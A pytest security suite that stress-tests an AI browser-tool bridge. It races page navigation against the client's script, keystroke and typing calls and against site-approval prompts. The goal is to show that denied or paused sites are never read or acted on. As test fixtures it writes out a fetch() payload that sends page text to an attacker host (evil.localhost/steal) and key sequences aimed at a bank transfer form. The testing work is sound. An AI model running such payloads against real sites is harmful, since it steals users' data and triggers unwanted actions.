"""A page leaves for a denied or paused site while its client acts: nothing happens there.

Each race runs in rounds with random delays (`rounds`), once undisturbed and once while bridge, host or
browser are stopped and continued. A failure names its seed; MCPB_SECURITY_SEED repeats it. The judge is what
the servers logged.
"""

from __future__ import annotations

import os
import random
import signal
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import asynccontextmanager, contextmanager, nullcontext, suppress
from functools import partial
from pathlib import Path
from typing import Any

import pytest
import trio
from mcp.types import CallToolResult, ElicitRequestParams, ElicitResult, TextContent

from demo.devtools import DevToolsError
from logged_hosts import HTML, LoggedHosts, Response
from site_boundary import close_tabs, config_file
from socket_observer import Onlooker, onlooking
from socket_observer import hosts as native_hosts
from tool_browser import Browsing, Tools

pytestmark = pytest.mark.real_bridges  # it stops them now and then

EVIL, BANK = "evil.localhost", "bank.localhost"
SECRET = "balance 12345.67"
LONGEST_DELAY_MS = 250
STEPS = 6
ACT = "(globalThis.acts ??= []).push(fetch('/act').catch(() => {}))"
"""Requests /act; the page keeps the promise, so that a test can wait until the server has answered."""

Race = Callable[["Round"], Awaitable[None]]


class Round:
    """One round: a client with a tab on the evil page, which leaves after a random time."""

    def __init__(
        self, browsing: Browsing, hosts: LoggedHosts, tools: Tools, tab_id: int, rng: random.Random
    ) -> None:
        self.browsing = browsing
        self.hosts = hosts
        self.rng = rng
        self.page = browsing.look(tab_id).page
        self.reported: list[str] = []
        self._tools = tools
        self._tab_id = tab_id

    def delay_ms(self) -> int:
        """Return a random delay."""
        return self.rng.randrange(LONGEST_DELAY_MS)

    async def call(self, name: str, **arguments: Any) -> CallToolResult:
        """Call a tool on the tab; whatever it answers is kept for the judge."""
        return self._keep(await self._tools.client.call_tool(name, {"tabId": self._tab_id, **arguments}))

    def _keep(self, result: CallToolResult) -> CallToolResult:
        self.reported += [block.text for block in result.content if isinstance(block, TextContent)]
        return result

    async def batch(self, *steps: tuple[str, dict[str, Any]]) -> None:
        """Run steps on the tab in one call."""
        actions = [{"name": name, "input": {"tabId": self._tab_id, **given}} for name, given in steps]
        self._keep(await self._tools.client.call_tool("browser_batch", {"actions": actions}))

    async def open(self, query: str) -> None:
        """Load the evil page; `query` says when and how it leaves."""
        url = self.hosts.url(EVIL, f"/?{query}")
        while (await self.call("navigate", url=url)).is_error:  # the page that it leaves may get in the way
            await trio.lowlevel.checkpoint()

    async def wait_left(self) -> None:
        """Wait until the page has tried to go to the bank, so that a late request cannot escape the judge."""
        while True:
            with suppress(DevToolsError):  # between two documents
                found = await self.page.send("Page.getNavigationHistory")
                if BANK in found["entries"][found["currentIndex"]]["url"]:
                    return
            await trio.sleep(0.02)

    async def run_script(self) -> None:
        """Send what the page shows to the attacker, if there is a secret in it."""
        url = self.hosts.url(EVIL, "/steal")
        script = (
            f"document.body.innerText.includes({SECRET!r}) && fetch('{url}', {{mode: 'no-cors'}}),"
            f"{ACT}, document.body.innerText"
        )
        await self.call("javascript_tool", action="javascript_exec", text=script)


# ── Races against a denied site ─────────────────────────────────────────────────────────────────────────────


async def scripts_one_after_the_other(it: Round) -> None:
    """F1, A03: scripts run on while the page leaves."""
    await it.open(f"leave={it.delay_ms()}")
    for _ in range(STEPS):
        await it.run_script()


async def scripts_at_once(it: Round) -> None:
    """F1, A03: calls in parallel."""
    await it.open(f"leave={it.delay_ms()}")
    async with trio.open_nursery() as nursery:
        for _ in range(STEPS):
            nursery.start_soon(it.run_script)


async def scripts_of_one_batch(it: Round) -> None:
    """F1, A03b: one browser_batch, whose first step makes the page leave."""
    await it.open("")
    leave = f"setTimeout(() => location.href = BANK + '/batch', {it.delay_ms()}), 0"
    scripts = [
        {"action": "javascript_exec", "text": text} for text in (leave, *["document.body.innerText"] * STEPS)
    ]
    await it.batch(*(("javascript_tool", script) for script in scripts))


async def keys(it: Round) -> None:
    """F2, A01: Return follows a focused link, and would press the button that the next page focuses."""
    await it.open("focus=link")
    await it.call("computer", action="key", text=" ".join(["Return", *["shift"] * 20, "Return"]))


async def typing(it: Round) -> None:
    """F2, A02: a line break submits a form, and the rest would be typed into the next page's."""
    await it.open("focus=form")
    await it.call("computer", action="type", text="a\n" + "b" * 40 + "attacker\n")


async def history(it: Round) -> None:
    """The tab was at the bank before: back needs no request where the browser has kept the page."""
    await it.open("")
    entries = await it.page.send("Page.getNavigationHistory")
    (at_bank,) = (at for at, entry in enumerate(entries["entries"]) if BANK in entry["url"])
    back = f"history.go({at_bank - entries['currentIndex']})"
    await it.page.evaluate(f"setTimeout(() => {back}, {it.delay_ms()}), 0")
    for _ in range(STEPS):
        await it.run_script()


RACES: list[tuple[Race, str]] = [
    (scripts_one_after_the_other, "denied"),
    (scripts_one_after_the_other, "paused"),
    (scripts_at_once, "denied"),
    (scripts_of_one_batch, "denied"),
    (keys, "denied"),
    (keys, "paused"),
    (typing, "denied"),
    (history, "denied"),
]


@pytest.mark.parametrize("is_disturbed", [False, True], ids=["undisturbed", "disturbed"])
@pytest.mark.parametrize(("race", "boundary"), RACES, ids=[f"{race.__name__}-{how}" for race, how in RACES])
def test_the_site_is_not_requested_read_or_acted_on(
    browsing: Browsing,
    hosts: LoggedHosts,
    pages: None,
    rounds: int,
    race: Race,
    boundary: str,
    is_disturbed: bool,
) -> None:
    bank = hosts.origin(BANK)
    tab_id = browsing.open_as_user(f"{bank}/")
    browsing.look(tab_id).load(hosts.url(EVIL, "/"))
    policy = f'[policy]\ndeny = ["{bank}"]\n' if boundary == "denied" else ""
    with config_file(browsing, f'{policy}[browser]\ntabs = "any"'), browsing.client(race.__name__) as tools:
        tools.done("tabs_context")
        with paused(browsing, bank) if boundary == "paused" else nullcontext():
            for seed in seeds(rounds):
                hosts.clear()
                it = Round(browsing, hosts, tools, tab_id, random.Random(seed))
                run(browsing, partial(until_left, race), it, is_disturbed=is_disturbed)
                assert [(log.method, log.path) for log in hosts.requests(BANK)] == [], f"seed {seed}"
                assert [log for log in hosts.requests(EVIL) if log.path == "/steal"] == [], f"seed {seed}"
                assert SECRET not in " ".join(it.reported), f"seed {seed}"


async def until_left(race: Race, it: Round) -> None:
    """Run a race, and end when the page has left."""
    await race(it)
    await it.wait_left()


@contextmanager
def paused(browsing: Browsing, site: str) -> Iterator[None]:
    """Pause a site for the time of the block."""

    async def set_to(is_paused: bool) -> None:
        async with onlooking(browsing.chain) as user:
            await set_paused(user, site, is_paused=is_paused)

    browsing.thread.run(set_to, True)
    try:
        yield
    finally:
        browsing.thread.run(set_to, False)


# ── Races against a pause ───────────────────────────────────────────────────────────────────────────────────


async def paused_scripts(it: Round) -> None:
    """F1, A09: scripts on the site that is being paused."""
    for _ in range(STEPS):
        await it.run_script()


async def paused_keys(it: Round) -> None:
    """A09b: keys on the site that is being paused; the page reports each."""
    await it.call("computer", action="key", text=" ".join(["a"] * 40))


async def paused_batch(it: Round) -> None:
    """F1: the steps of one batch."""
    script = ("javascript_tool", {"action": "javascript_exec", "text": f"{ACT}, 0"})
    key = ("computer", {"action": "key", "text": "a b c"})
    await it.batch(*[script, key] * STEPS)


@pytest.mark.parametrize("is_disturbed", [False, True], ids=["undisturbed", "disturbed"])
@pytest.mark.parametrize("race", [paused_scripts, paused_keys, paused_batch], ids=lambda race: race.__name__)
def test_nothing_is_done_on_a_site_after_its_pause(
    browsing: Browsing, hosts: LoggedHosts, pages: None, rounds: int, race: Race, is_disturbed: bool
) -> None:
    with config_file(browsing, ""), browsing.client(race.__name__) as tools:
        tab_id: int = tools.done("tabs_create").structured["tabId"]
        for seed in seeds(rounds):
            tools.done("navigate", tabId=tab_id, url=hosts.url(BANK, "/"))
            hosts.clear()
            it = Round(browsing, hosts, tools, tab_id, random.Random(seed))
            run(browsing, partial(pause_during, race), it, is_disturbed=is_disturbed)
            # The one command that the browser was running when the pause came may end.
            assert len(hosts.requests(BANK)) <= 1, f"seed {seed}"


async def pause_during(race: Race, it: Round) -> None:
    """Pause the bank while the race runs; the log begins when the pause is in force."""
    async with onlooking(it.browsing.chain) as user, trio.open_nursery() as nursery:
        nursery.start_soon(race, it)
        await trio.sleep(it.delay_ms() / 1000)
        await set_paused(user, it.hosts.origin(BANK), is_paused=True)
        # Requests that began before the pause use several connections: the server may log them late.
        await it.page.evaluate("Promise.all(globalThis.acts ?? []).then(() => 0)")
        it.hosts.clear()
    async with onlooking(it.browsing.chain) as user:
        await set_paused(user, it.hosts.origin(BANK), is_paused=False)


async def set_paused(user: Onlooker, site: str, *, is_paused: bool) -> None:
    """Pause or resume a site as the popup does, over the wire."""
    await user.request("browser/pause", site=site, paused=is_paused)


# ── Races against an approval ───────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("is_disturbed", [False, True], ids=["undisturbed", "disturbed"])
def test_an_approval_does_not_hold_for_the_site_that_the_tab_has_gone_to(
    browsing: Browsing, hosts: LoggedHosts, pages: None, rounds: int, is_disturbed: bool
) -> None:
    """A10, A09: the prompt is open while the page leaves; the user allows the site that it names."""
    evil = hosts.origin(EVIL)
    asked: list[str] = []
    delays = random.Random()

    async def answer(_context: Any, params: ElicitRequestParams) -> ElicitResult:
        asked.append(params.message)
        await trio.sleep(delays.randrange(LONGEST_DELAY_MS) / 1000)
        return ElicitResult(action="accept", content={"allow": "session" if evil in params.message else "no"})

    config = '[browser]\ntabs = "any"\nsites = "ask"\nask_in = "client"'
    for seed in seeds(rounds):
        tab_id = browsing.open_as_user(f"{evil}/")
        with (
            config_file(browsing, config),
            browsing.client(f"asking {seed}", elicitation_callback=answer) as tools,
        ):
            it = Round(browsing, hosts, tools, tab_id, random.Random(seed))
            hosts.clear()
            run(browsing, leave_during_prompt, it, is_disturbed=is_disturbed)
            assert asked, f"seed {seed}"
            acts = [log.path for log in hosts.requests(BANK) if log.path in ("/act", "/confirm")]
            assert acts == [], f"seed {seed}"
            assert [log for log in hosts.requests(EVIL) if log.path == "/steal"] == [], f"seed {seed}"
            assert SECRET not in " ".join(it.reported), f"seed {seed}"


async def leave_during_prompt(it: Round) -> None:
    """The tab is the user's: that its page goes to the bank is the user's own affair."""
    await it.page.evaluate(f"setTimeout(() => location.href = BANK + '/', {it.delay_ms()}), 0")
    for _ in range(STEPS):
        await it.run_script()
    await it.call("computer", action="key", text="Return Return")


# ── How a round runs ────────────────────────────────────────────────────────────────────────────────────────


@pytest.fixture(autouse=True)
def tidy(browsing: Browsing) -> Iterator[None]:
    """Close what a test has opened."""
    yield
    close_tabs(browsing)


@pytest.fixture(scope="module")
def pages(hosts: LoggedHosts) -> None:
    """The attacker's page and the bank's."""
    bank = hosts.origin(BANK)
    hosts.set_page(
        EVIL,
        "/",
        f"""<title>evil</title><a href={bank}/link>x</a><form action={bank}/form><input name=q></form>
        <script>const BANK = '{bank}', how = new URLSearchParams(location.search);
        if (how.has('leave')) setTimeout(() => location.href = BANK + '/left', how.get('leave'));
        document.querySelector({{link: 'a', form: 'input'}}[how.get('focus')] ?? 'a').focus();</script>""",
    )
    hosts.set_page(
        BANK,
        "/",
        f"""<title>bank</title><p>{SECRET}</p><form method=post action=/confirm>
        <input name=to autofocus><button>Confirm transfer</button></form>
        <script>onkeydown = (event) => event.preventDefault() ?? ACT;</script>""".replace("ACT", ACT),
    )


def seeds(rounds: int) -> list[str]:
    """Return the seeds of the rounds."""
    base = os.environ.get("MCPB_SECURITY_SEED")
    return [base] if base else [f"{random.getrandbits(32):08x}" for _ in range(rounds)]


def run(browsing: Browsing, race: Race, it: Round, *, is_disturbed: bool) -> None:
    """Run one round to its end."""

    async def bounded() -> None:
        async with disturbance(browsing, it.rng) if is_disturbed else undisturbed():
            await race(it)

    browsing.run_long(bounded)


@asynccontextmanager
async def undisturbed() -> AsyncIterator[None]:
    """Change nothing."""
    yield


@asynccontextmanager
async def disturbance(browsing: Browsing, rng: random.Random) -> AsyncIterator[None]:
    """Stop bridge, host or browser for 5 to 200 ms, again and again, until the block ends."""
    (host,) = native_hosts(browsing.chain)
    processes = [*bridges(), host.pid, browsing.browser.pid]

    async def disturb() -> None:
        while True:
            pid = rng.choice(processes)
            await trio.sleep(rng.randrange(5, 100) / 1000)
            with suppress(ProcessLookupError):
                os.kill(pid, signal.SIGSTOP)
            try:
                await trio.sleep(rng.randrange(5, 200) / 1000)
            finally:
                with suppress(ProcessLookupError):
                    os.kill(pid, signal.SIGCONT)

    async with trio.open_nursery() as nursery:
        nursery.start_soon(disturb)
        yield
        nursery.cancel_scope.cancel()


def bridges() -> list[int]:
    """Return the processes of our clients' bridges: children of this process."""
    found = []
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        with suppress(OSError):
            is_bridge = b"-m\0bridge\0bridge" in path.read_bytes()
            parent = path.with_name("stat").read_text().rpartition(")")[2].split()[1]
            if is_bridge and int(parent) == os.getpid():
                found.append(int(path.parent.name))
    return found


# ── Races against a forbidden site ──────────────────────────────────────────────────────────────────────────


EVIL, BANK = "evil.localhost", "bank.localhost"
BALANCE = "balance 12345.67"


@pytest.fixture
def bank(hosts: LoggedHosts) -> str:
    """A page with a button that has the focus at once, and a balance for who is signed in."""
    form = "<form method=post action=/confirm><button autofocus>Confirm transfer</button></form>"
    page = f"<!doctype html><title>Bank</title>{form}<p>{BALANCE}</p>".encode()
    return hosts.set_response(BANK, "/", Response(page, HTML, headers={"Set-Cookie": "id=1; HttpOnly"}))


@contextmanager
def not_asked(browsing: Browsing, hosts: LoggedHosts) -> Iterator[Tools]:
    approved = browsing.chain.home / "state" / "approvals.json"
    approved.parent.mkdir(mode=0o700, exist_ok=True)
    approved.write_text(f'{{"{hosts.origin(EVIL)}": {{}}}}')
    approved.chmod(0o600)
    try:
        asks = '[browser]\nsites = "ask"\nask_in = "client"'
        with config_file(browsing, asks), browsing.client("attacked") as tools:
            yield tools
    finally:
        approved.unlink()


def stolen(hosts: LoggedHosts) -> list[str]:
    """What a script has sent to the attacker from anywhere but the attacker's own page."""
    paths = [request.path for request in hosts.requests(EVIL)]
    return [path for path in paths if path.startswith("/steal") and "evil" not in path.partition("?")[2]]


def confirmed(hosts: LoggedHosts) -> list[str]:
    return [request.path for request in hosts.requests(BANK) if request.path.startswith("/confirm")]


def steal(hosts: LoggedHosts) -> str:
    send = (
        f"fetch('{hosts.url(EVIL, '/steal')}?' + encodeURIComponent(location.host + document.body.innerText)"
    )
    return f"{send}, {{mode: 'no-cors'}}); 1"


def open_evil(tools: Tools, hosts: LoggedHosts, body: str) -> int:
    tab: int = tools.done("tabs_create").structured["tabId"]
    tools.done("navigate", tabId=tab, url=hosts.set_page(EVIL, "/", body))
    return tab


@pytest.mark.parametrize("way", ["batch", "parallel"])
def test_a_script_never_runs_on_a_forbidden_site(
    browsing: Browsing, hosts: LoggedHosts, bank: str, rounds: int, way: str
) -> None:
    with not_asked(browsing, hosts) as tools:
        for number in range(rounds):
            tab = open_evil(tools, hosts, "<p>evil</p>")
            hosts.clear()
            leave = f"setTimeout(() => location = '{bank}', {60 + 45 * number % 180}); 1"
            run = {"action": "javascript_exec", "tabId": tab, "text": steal(hosts)}
            if way == "batch":
                first = {**run, "text": leave}
                steps = [{"name": "javascript_tool", "input": each} for each in [first, *[run] * 40]]
                answers = tools.call("browser_batch", actions=steps).text
            else:
                tools.done("javascript_tool", **{**run, "text": leave})
                with ThreadPoolExecutor(8) as threads:
                    calls = [threads.submit(tools.call, "javascript_tool", **run) for _ in range(40)]
                answers = "".join(call.result().text for call in calls)
            assert stolen(hosts) == []
            assert BALANCE not in answers
            tools.call("tabs_close_mcp", tabId=tab)


def test_keys_are_never_pressed_on_a_forbidden_site(
    browsing: Browsing, hosts: LoggedHosts, bank: str, rounds: int
) -> None:
    with not_asked(browsing, hosts) as tools:
        for _ in range(rounds):
            tab = open_evil(tools, hosts, f"<a id=a href={bank}>on</a><script>a.focus()</script>")
            hosts.clear()
            presses = " ".join(["Return", *["shift"] * 60, "Return", "space"])
            said = tools.call("computer", action="key", text=presses, tabId=tab).text
            assert confirmed(hosts) == []
            assert BALANCE not in said
            tools.call("tabs_close_mcp", tabId=tab)


def test_text_is_never_typed_on_a_forbidden_site(browsing: Browsing, hosts: LoggedHosts, rounds: int) -> None:
    bank = hosts.set_page(BANK, "/pay", "<form method=post action=/confirm><input name=to autofocus></form>")
    with not_asked(browsing, hosts) as tools:
        for _ in range(rounds):
            form = f"<form action={bank}><input name=q id=q></form><script>q.focus()</script>"
            tab = open_evil(tools, hosts, form)
            hosts.clear()
            tools.call("computer", action="type", text=f"a\n{'x' * 200}\nattacker\n", tabId=tab)
            assert confirmed(hosts) == []
            tools.call("tabs_close_mcp", tabId=tab)


def test_keys_end_with_the_document_also_on_an_allowed_site(browsing: Browsing, hosts: LoggedHosts) -> None:
    hosts.set_page(EVIL, "/next", "<form method=post action=/sent><button autofocus>Send</button></form>")
    with browsing.client("allowed") as tools:
        tab = open_evil(
            tools, hosts, f"<a id=a href={hosts.url(EVIL, '/next')}>on</a><script>a.focus()</script>"
        )
        said = tools.call(
            "computer", action="key", text=" ".join(["Return", *["shift"] * 60, "Return"]), tabId=tab
        )
        assert not said.is_error
        assert "of 62 keys" in said.text
        assert [request for request in hosts.requests(EVIL) if request.path == "/sent"] == []
        assert "Send" in tools.done("read_page", tabId=tab).text
